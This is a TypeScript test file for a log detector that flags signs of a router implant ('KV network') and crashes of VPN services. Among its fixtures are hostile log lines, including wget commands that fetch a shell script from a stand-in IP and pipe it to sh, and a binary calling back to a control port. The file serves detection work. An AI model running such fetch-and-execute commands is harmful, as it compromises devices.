import { expect, test } from 'vitest'
import { at } from '../../../test/network-events.ts'
import { saidBy } from '../../../test/record-detector.ts'
import { implantSigns, outsideServiceCrash } from './implant-signs.ts'

const facts = { host: 'rv01', product: 'syslog' }

test.each([
  ['wget http://203.0.113.9:5555/mips/kv-all.sh', 'high: rv01 names "kv-all.sh", which the KV network leaves'],
  ['started /tmp/bioset3 -c 203.0.113.9:9999', 'high: rv01 names "/tmp/bioset3", which the KV network leaves'],
  ['wget -O- http://203.0.113.9/fy.sh | sh', 'high: rv01 names "wget -O- http://203.0.113.9/fy.sh", which the KV network leaves'],
  ['httpd_watchdog[22]: terminated by signal', 'low: The keeper of its services ended on rv01: httpd_watchdog[22]: terminat'],
  ['httpd_watchdog[22]: web server is alive', ''],
  ['kernel: bioset: created workqueue', ''],
  ['verify.sh done', ''],
  ['', ''],
])('%s', (message, expected) => {
  expect(saidBy(implantSigns, at('other_activity', 0, { message }, facts))).toBe(expected)
})

test.each([
  ['sslvpnd', 'Pid: 1, application: sslvpnd, Signal 11 received', 'fortigate', 'medium: sslvpnd crashed on rv01'],
  ['sslvpnd', 'out of memory', 'fortigate', 'low: sslvpnd crashed on rv01'],
  ['miglogd', 'Signal 11 received', 'fortigate', ''],
  ['httpd', 'Main process exited', 'syslog', ''],
])('a crash of %s: %s', (name, path, product, expected) => {
  expect(saidBy(outsideServiceCrash, at('service_activity', 0, { action: 'crash', name, path }, { host: 'rv01', product }))).toBe(
    expected,
  )
})
